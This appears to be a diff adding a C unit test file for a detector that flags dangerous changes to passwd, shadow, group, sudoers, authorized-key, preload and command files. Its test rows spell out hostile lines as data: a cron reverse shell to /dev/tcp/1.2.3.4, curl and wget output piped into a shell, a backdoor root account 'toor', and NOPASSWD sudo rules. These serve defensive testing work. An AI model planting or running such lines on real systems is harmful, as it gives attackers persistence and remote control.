@@ -1,0 +1,176 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+
+#include <cmocka.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include "core/cleanup.h"
+#include "diff/linediff.h"
+#include "diff/linerules.h"
+
+#define ROOT "root:x:0:0:root:/root:/bin/sh\n"
+#define KEY "AAAAC3NzaC1lZDI1NTE5AAAAIE5hYmMxMjM0NTY3ODkwMTIzNDU2Nzg5MDEyMzQ1Njc4OTAx"
+
+struct row {
+	enum textfile what;
+	const char *before, *after;
+	const char *want; /* rules that name it, each with a blank behind */
+	const char *message;
+};
+
+static const struct row rows[] = {
+	/* ---- accounts ---- */
+	{TEXTFILE_PASSWD, ROOT, ROOT "toor:x:0:0::/:/bin/sh\n", "line-account-root ",
+	 "new account 'toor' has user id 0"},
+	{TEXTFILE_PASSWD, ROOT "daemon:x:1:1::/:\n", ROOT "daemon:x:0:0::/:\n",
+	 "line-account-root ", "account 'daemon' has user id 0"},
+	{TEXTFILE_PASSWD, ROOT, ROOT "a:x:00:5::/:\n", "line-account-root ", NULL},
+	{TEXTFILE_PASSWD, ROOT, ROOT "a:x: +0:5::/:\n", "line-account-root ", NULL},
+	{TEXTFILE_PASSWD, ROOT, ROOT "a:x::5::/:\n", "line-account-root ", NULL},
+	{TEXTFILE_PASSWD, ROOT, ROOT "a:x:4294967296:5::/:\n", "line-account-root ", NULL},
+	{TEXTFILE_PASSWD, ROOT, ROOT "a:x:10:0::/:\n", "", ""},
+	{TEXTFILE_PASSWD, ROOT, ROOT "a:x:0x:0::/:\n", "", ""},
+	{TEXTFILE_PASSWD, ROOT, "root:x:0:0:root:/root:/bin/bash\n", "", ""},
+	{TEXTFILE_PASSWD, "a:x:0:0::/:\n", "a:x:0:0::/:/bin/sh\n", "", ""},
+	{TEXTFILE_PASSWD, "", ROOT, "", ""},
+	{TEXTFILE_PASSWD, ROOT, "# a:x:0:0\n" ROOT, "", ""},
+	{TEXTFILE_PASSWD, ROOT "a:x:0:0::/:\n", ROOT, "", ""},
+	{TEXTFILE_PASSWD, "a:x:5:5::/:\n", "a::5:5::/:\n", "line-account-open ",
+	 "account 'a' needs no password"},
+	{TEXTFILE_SHADOW, "a:!:1\n", "a::1\n", "line-account-open ",
+	 "account 'a' needs no password"},
+	{TEXTFILE_SHADOW, "a::1\n", "a::2\n", "", ""},
+	{TEXTFILE_SHADOW, "a:!:1\n", "a:*:1\n", "", ""},
+	{TEXTFILE_PASSWD, ROOT, ROOT "+::::::\n", "", ""},
+	{TEXTFILE_SHADOW, "a:!:1\n", "a:$1$ab$0123456789ab:1\n", "line-account-password ",
+	 "account 'a' has another password"},
+	{TEXTFILE_SHADOW, "", "b:$1$ab$0123456789ab:1\n", "line-account-password ",
+	 "account 'b' has a password"},
+	{TEXTFILE_SHADOW, "a:$1$ab$0123456789ab:1\n", "a:$1$ab$0123456789ab:2\n", "", ""},
+	{TEXTFILE_SHADOW, "a:$1$ab$0123456789ab:1\n", "a:!$1$ab$0123456789ab:1\n", "", ""},
+	/* a backup is what was before: nothing is new in it */
+	{TEXTFILE_BACKUP, "", ROOT "toor::0:0::/:\n", "", ""},
+	{TEXTFILE_GROUP, "sudo:x:27:\n", "sudo:x:27:www-data\n", "line-group-member ",
+	 "account 'www-data' is a member of group 'sudo'"},
+	{TEXTFILE_GROUP, "sudo:x:27:a\n", "sudo:x:27:b,a\n", "line-group-member ", NULL},
+	{TEXTFILE_GROUP, "sudo:x:27:a,b\n", "sudo:x:27:a\n", "", ""},
+	{TEXTFILE_GROUP, "", "app:x:1000:a\n", "", ""},
+	/* ---- rights ---- */
+	{TEXTFILE_SUDOERS, "", "a ALL=(ALL) NOPASSWD: ALL\n", "line-sudo-open ",
+	 "sudo asks for no password for any command"},
+	{TEXTFILE_SUDOERS, "", "a ALL=NOPASSWD:ALL\n", "line-sudo-open ", NULL},
+	{TEXTFILE_SUDOERS, "", "a ALL=NOPASSWD: /bin/ls, \\\n ALL\n", "line-sudo-open ", NULL},
+	{TEXTFILE_SUDOERS, "", "Defaults !authenticate\n", "line-sudo-open ", NULL},
+	{TEXTFILE_SUDOERS, "", "permit nopass a\n", "line-sudo-open ", NULL},
+	{TEXTFILE_SUDOERS, "", "# a ALL=(ALL) NOPASSWD: ALL\n", "", ""},
+	{TEXTFILE_SUDOERS, "", "a ALL=(ALL) ALL\n", "", ""},
+	{TEXTFILE_SUDOERS, "", "a ALL=NOPASSWD: /bin/ls\n", "", ""},
+	{TEXTFILE_SUDOERS, "a ALL=NOPASSWD: ALL\n", "", "", ""},
+	{TEXTFILE_KEYS, "", "ssh-ed25519 " KEY " x\n", "line-login-key ", NULL},
+	{TEXTFILE_KEYS, "", "# ssh-ed25519 " KEY "\n\n", "", ""},
+	/* ---- code ---- */
+	{TEXTFILE_PRELOAD, "", "/usr/lib/x.so\n", "line-preload ",
+	 "every program that starts loads '/usr/lib/x.so'"},
+	{TEXTFILE_PRELOAD, "/usr/lib/x.so\n", "# nothing\n\n", "", ""},
+	{TEXTFILE_COMMANDS, "", "export LD_PRELOAD=/tmp/x.so\n", "line-preload-variable ", NULL},
+	{TEXTFILE_COMMANDS, "", "# LD_PRELOAD is bad\nMY_LD_PRELOADER=1\n", "", ""},
+	{TEXTFILE_COMMANDS, "", "* * * * * root bash -i >& /dev/tcp/1.2.3.4/5 0>&1\n",
+	 "line-remote-shell ", NULL},
+	{TEXTFILE_COMMANDS, "", "ls /dev/tcp\n", "", ""},
+	{TEXTFILE_COMMANDS, "", "curl -s http://x/y | bash\n", "line-download-run ", NULL},
+	{TEXTFILE_COMMANDS, "", "wget -qO- x|sh -s\n", "line-download-run ", NULL},
+	{TEXTFILE_COMMANDS, "", "curl -o x.sh http://x | tee x.sh\nls | sh\n", "", ""},
+	/* another file's rules */
+	{TEXTFILE_PLAIN, "", ROOT "toor::0:0::/:\n/usr/lib/x.so\n", "", ""},
+};
+
+static struct sl_bytes bytes(const char *text)
+{
+	return (struct sl_bytes){text, strlen(text)};
+}
+
+static void run(const struct row *r, struct sl_finding *f, struct buf *message)
+{
+	AUTO_FREE struct sl_line *lines = NULL;
+	bool hits[16] = {false};
+	bool any = false;
+	size_t count;
+
+	assert_int_equal(linediff(&lines, &count, bytes(r->before), bytes(r->after), NULL), 0);
+	assert_true(count <= ARRAY_SIZE(hits));
+	assert_int_equal(linerules_apply(f, r->what, lines, count, hits, message), 0);
+	for (size_t i = 0; i < count; i++) {
+		any = any || hits[i];
+		assert_false(hits[i] && lines[i].sign == '-');
+	}
+	assert_int_equal(any, f->rule_count > 0);
+}
+
+static void each_rule_names_what_it_should_and_nothing_else(void **state)
+{
+	bool named[32] = {false};
+
+	(void)state;
+	for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
+		CLEANUP(buf_clear) struct buf ids = BUF_INIT(4096);
+		CLEANUP(buf_clear) struct buf message = BUF_INIT(4096);
+		struct sl_finding f = {0};
+
+		run(&rows[i], &f, &message);
+		(void)buf_append_str(&ids, "");
+		for (size_t r = 0; r < f.rule_count; r++)
+			(void)buf_printf(&ids, "%s ", f.rules[r]);
+		if (strcmp(ids.data, rows[i].want) != 0)
+			fail_msg("row %zu ('%s'): %s", i, rows[i].after, ids.data);
+		if (rows[i].message != NULL &&
+		    strcmp(message.data != NULL ? message.data : "", rows[i].message) != 0)
+			fail_msg("row %zu: %s", i, message.data);
+		for (size_t r = 0; linerules_id(r) != NULL; r++)
+			named[r] = named[r] || strstr(ids.data, linerules_id(r)) != NULL;
+		if (f.rule_count > 0) {
+			assert_true(f.severity >= SL_SEVERITY_HIGH);
+			assert_true(f.attack_count > 0);
+		}
+	}
+	for (size_t r = 0; linerules_id(r) != NULL; r++)
+		if (!named[r])
+			fail_msg("no row for %s", linerules_id(r));
+}
+
+static void many_sentences_are_counted(void **state)
+{
+	CLEANUP(buf_clear) struct buf message = BUF_INIT(4096);
+	const struct row r = {TEXTFILE_PRELOAD, "", "/a\n/b\n/c\n/d\n/e\n/f\n", NULL, NULL};
+	struct sl_finding f = {0};
+
+	(void)state;
+	run(&r, &f, &message);
+	assert_non_null(strstr(message.data, "'/d'; and 2 more like these"));
+	assert_int_equal(f.rule_count, 1);
+}
+
+static void names_in_sentences_are_quoted(void **state)
+{
+	CLEANUP(buf_clear) struct buf message = BUF_INIT(4096);
+	const struct row r = {TEXTFILE_PASSWD, "", "a\033[31m:x:0:0\n", NULL, NULL};
+	struct sl_finding f = {0};
+
+	(void)state;
+	run(&r, &f, &message);
+	assert_string_equal(message.data, "new account 'a\\x1b[31m' has user id 0");
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(each_rule_names_what_it_should_and_nothing_else),
+		cmocka_unit_test(many_sentences_are_counted),
+		cmocka_unit_test(names_in_sentences_are_quoted),
+	};
+
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
